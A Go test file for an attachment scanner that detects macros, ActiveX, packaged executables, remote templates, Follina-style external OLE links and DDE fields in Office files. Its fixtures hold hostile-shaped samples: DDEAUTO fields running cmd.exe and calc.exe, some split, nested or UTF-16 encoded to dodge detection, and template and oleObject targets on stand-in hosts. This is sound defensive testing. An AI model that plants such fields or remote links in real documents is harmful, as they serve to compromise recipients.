package attach

import (
	"encoding/binary"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
)

func TestZipKind(t *testing.T) {
	for _, tc := range []struct {
		names []string
		want  string
	}{
		{[]string{"[Content_Types].xml", "word/document.xml"}, TypeDocx},
		{[]string{"[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"}, TypeDocm},
		{[]string{"[content_types].XML", "WORD/document.xml", "word/vbaData.xml"}, TypeDocm},
		{[]string{"[Content_Types].xml", "xl/workbook.xml"}, TypeXlsx},
		{[]string{"[Content_Types].xml", "xl/workbook.xml", "xl/macrosheets/sheet1.xml"}, TypeXlsm},
		{[]string{"[Content_Types].xml", "ppt/presentation.xml", "ppt/vbaProject.bin"}, TypePptm},
		{[]string{"[Content_Types].xml", "ppt/presentation.xml"}, TypePptx},
		{[]string{"word/document.xml"}, TypeZip}, // no content types: not a package
		{[]string{"META-INF/MANIFEST.MF", "A.class"}, TypeJar},
		{[]string{"META-INF/MANIFEST.MF", "AndroidManifest.xml", "classes.dex"}, TypeAPK},
		{[]string{"a.txt"}, TypeZip},
	} {
		if got := zipKind(tc.names); got != tc.want {
			t.Errorf("zipKind(%v) = %q, want %q", tc.names, got, tc.want)
		}
	}
}

func TestPlainDocxIsClean(t *testing.T) {
	r := inspectBytes(t, "report.docx", buildDocx(t), DefaultLimits())
	if r.Type != TypeDocx || len(r.Flags()) != 0 || len(r.Entries) != 0 {
		t.Fatalf("plain docx: %s %v entries %d", r.Type, r.Flags(), len(r.Entries))
	}
}

func TestDocmMacros(t *testing.T) {
	d := buildDocx(t, zipFile{name: "word/vbaProject.bin", data: vbaProject(t)})
	r := inspectBytes(t, "report.docm", d, DefaultLimits())
	if r.Type != TypeDocm || !r.Macros || r.NameMismatch {
		t.Fatalf("docm: %s %v", r.Type, r.Flags())
	}
	if len(r.Entries) != 1 || r.Entries[0].Name != "word/vbaProject.bin" || !r.Entries[0].Macros {
		t.Errorf("the VBA project is listed as evidence: %+v", r.Entries)
	}
	if r := inspectBytes(t, "report.docx", d, DefaultLimits()); !r.NameMismatch {
		t.Errorf("macro document named .docx: %v", r.Flags())
	}
}

func TestRenamedVBAPartFoundByRelationship(t *testing.T) {
	rels := `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="logo.bin"/></Relationships>`
	d := buildZip(t, docxParts(plainBody,
		zipFile{name: "word/_rels/document.xml.rels", data: []byte(rels)},
		zipFile{name: "word/logo.bin", data: []byte("not even a compound file")})...)
	r := inspectBytes(t, "report.docm", d, DefaultLimits())
	if !r.Macros || r.Type != TypeDocm {
		t.Fatalf("renamed VBA part: %s %v", r.Type, r.Flags())
	}
}

func TestXLMMacroSheet(t *testing.T) {
	x := buildZip(t,
		zipFile{name: "[Content_Types].xml", data: []byte(contentTypesXML)},
		zipFile{name: "xl/workbook.xml", data: []byte("<workbook/>")},
		zipFile{name: "xl/macrosheets/sheet1.xml", data: []byte("<xm:macrosheet/>")},
	)
	r := inspectBytes(t, "book.xlsm", x, DefaultLimits())
	if r.Type != TypeXlsm || !r.Macros {
		t.Fatalf("XLM macro sheet: %s %v", r.Type, r.Flags())
	}
}

func TestActiveXAndOLEPackage(t *testing.T) {
	d := buildDocx(t,
		zipFile{name: "word/activeX/activeX1.xml", data: []byte(`<ax:ocx ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>`)},
		zipFile{name: "word/activeX/activeX1.bin", data: []byte{1, 2, 3}},
		zipFile{name: "word/embeddings/oleObject1.bin", data: oleObjectWithPackage(t)},
	)
	r := inspectBytes(t, "report.docx", d, DefaultLimits())
	if !hasActive(r, ActiveX) || !hasActive(r, OLEObject) {
		t.Fatalf("active content: %v", r.ActiveContent)
	}
	if !r.Executable || !r.DoubleExtension || !r.NameMismatch {
		t.Fatalf("packaged invoice.pdf.exe behind an invoice.pdf label: %v", r.Flags())
	}
	var emb *Report
	for i := range r.Entries {
		if r.Entries[i].Name == "word/embeddings/oleObject1.bin" {
			emb = &r.Entries[i]
		}
	}
	if emb == nil || len(emb.Entries) != 1 || emb.Entries[0].Name != "invoice.pdf.exe" || emb.Entries[0].Type != TypePE {
		t.Fatalf("embedding not listed with its package: %+v", r.Entries)
	}
}

func TestRemoteTemplate(t *testing.T) {
	for _, tc := range []struct {
		target string
		want   bool
	}{
		{"http://203.0.113.7/t.dotm", true},
		{"HTTPS://example.com/template.dotm", true},
		{`\\203.0.113.7\share\t.dotm`, true},
		{"file://fileserver/share/t.dotm", true},
		{`file:///C:\Users\a\AppData\Roaming\Microsoft\Templates\Normal.dotm`, false},
		{"file://C:/Templates/Normal.dotm", false},
		{"Normal.dotm", false},
	} {
		d := buildDocx(t, zipFile{name: "word/_rels/settings.xml.rels", data: []byte(settingsRels(tc.target))})
		r := inspectBytes(t, "letter.docx", d, DefaultLimits())
		if got := hasActive(r, RemoteTemplate); got != tc.want {
			t.Errorf("attachedTemplate %q: remote-template %v, want %v", tc.target, got, tc.want)
		}
	}
	// Entity-encoded attribute values are decoded, as Word decodes them.
	rels := `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/&#97;ttachedTemplate" Target="&#104;ttp://x/t.dotm" TargetMode='&#69;xternal'/></Relationships>`
	d := buildDocx(t, zipFile{name: "word/_rels/settings.xml.rels", data: []byte(rels)})
	if r := inspectBytes(t, "letter.docx", d, DefaultLimits()); !hasActive(r, RemoteTemplate) {
		t.Errorf("entity-encoded remote template missed: %v", r.Flags())
	}
}

func TestExternalOLEObjectRelationship(t *testing.T) {
	rels := `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId996" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="http://203.0.113.9/x.html!" TargetMode="External"/></Relationships>`
	d := buildDocx(t, zipFile{name: "word/_rels/document.xml.rels", data: []byte(rels)})
	if r := inspectBytes(t, "follina.docx", d, DefaultLimits()); !hasActive(r, OLEObject) {
		t.Errorf("external oleObject: %v", r.Flags())
	}
}

func TestDDEFields(t *testing.T) {
	split := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	simple := `<w:p><w:fldSimple w:instr=" ddeauto  excel &quot;x&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`
	nested := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 = 1 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd "/c x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	text := `<w:p><w:r><w:t>Use DDEAUTO responsibly</w:t></w:r></w:p>`
	for _, tc := range []struct {
		name, body string
		want       bool
	}{
		{"split across runs", split, true},
		{"fldSimple lower case", simple, true},
		{"nested field", nested, true},
		{"plain text mentioning DDE", text, false},
		{"PAGE field", plainBody, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := buildZip(t, docxParts(tc.body)...)
			r := inspectBytes(t, "memo.docx", d, DefaultLimits())
			if got := hasActive(r, DDE); got != tc.want {
				t.Errorf("dde %v, want %v (%v)", got, tc.want, r.Flags())
			}
		})
	}
}

func utf16LE(s string) []byte {
	u := utf16.Encode([]rune(s))
	b := []byte{0xFF, 0xFE}
	for _, c := range u {
		b = binary.LittleEndian.AppendUint16(b, c)
	}
	return b
}

func TestDDEInUTF16Part(t *testing.T) {
	body := `<w:p><w:fldSimple w:instr="DDEAUTO cmd x"/></w:p>`
	parts := docxParts(body)
	parts[2].data = utf16LE(documentXML(body))
	r := inspectBytes(t, "memo.docx", buildZip(t, parts...), DefaultLimits())
	if !hasActive(r, DDE) {
		t.Errorf("UTF-16 document.xml: %v", r.Flags())
	}
}

func TestExcelExternalLinkDDE(t *testing.T) {
	x := buildZip(t,
		zipFile{name: "[Content_Types].xml", data: []byte(contentTypesXML)},
		zipFile{name: "xl/workbook.xml", data: []byte("<workbook/>")},
		zipFile{name: "xl/externalLinks/externalLink1.xml", data: []byte(`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`)},
	)
	r := inspectBytes(t, "book.xlsx", x, DefaultLimits())
	if !slices.Equal(r.ActiveContent, []string{DDE, ExternalLink}) || r.Type != TypeXlsx {
		t.Errorf("Excel DDE link: %s %v", r.Type, r.ActiveContent)
	}
}

func TestEachTagAndAttr(t *testing.T) {
	doc := []byte(`<?xml version="1.0"?><!-- <a x="1"/> --><!DOCTYPE x><r:A b="x>y" c='2'/><B>text &amp; more</B><`)
	var got []string
	eachTag(doc, func(tag xmlTag) bool {
		s := tag.local
		if tag.close {
			s = "/" + s
		}
		if tag.empty {
			s += "/"
		}
		got = append(got, s)
		if tag.local == "A" && !tag.close {
			if attr(tag.attrs, "b") != "x>y" || attr(tag.attrs, "c") != "2" || attr(tag.attrs, "d") != "" {
				t.Errorf("attrs of A: %q", tag.attrs)
			}
		}
		if tag.local == "B" && !tag.close && string(tag.text) != "text &amp; more" {
			t.Errorf("text of B: %q", tag.text)
		}
		return true
	})
	if want := []string{"A/", "B", "/B"}; !slices.Equal(got, want) {
		t.Errorf("tags = %v, want %v", got, want)
	}
}

func TestIsRemoteTarget(t *testing.T) {
	for target, want := range map[string]bool{
		"http://a/b":          true,
		" https://a/b":        true,
		"ftp://a/b":           true,
		`\\host\share\t.dotm`: true,
		"//host/share":        true,
		"mhtml:http://a/b!x":  true,
		"file://host/share/x": true,
		`file:\\host\share`:   true,
		"file:///C:/x.dotm":   false,
		`file:///C:\x.dotm`:   false,
		"file://c:/x.dotm":    false,
		"../templates/t.dotm": false,
	} {
		if got := isRemoteTarget(target); got != want {
			t.Errorf("isRemoteTarget(%q) = %v, want %v", target, got, want)
		}
	}
}

func TestDDEInLargeDocument(t *testing.T) {
	// The field sits beyond the sniffing head: the part is kept whole.
	filler := strings.Repeat(`<w:p><w:r><w:t>filler paragraph of the annual report</w:t></w:r></w:p>`, 3000)
	body := filler + `<w:p><w:fldSimple w:instr="DDEAUTO cmd x"/></w:p>`
	r := inspectBytes(t, "memo.docx", buildZip(t, docxParts(body)...), DefaultLimits())
	if !hasActive(r, DDE) || r.Partial {
		t.Fatalf("DDE after %d bytes: %v", len(filler), r.Flags())
	}
}
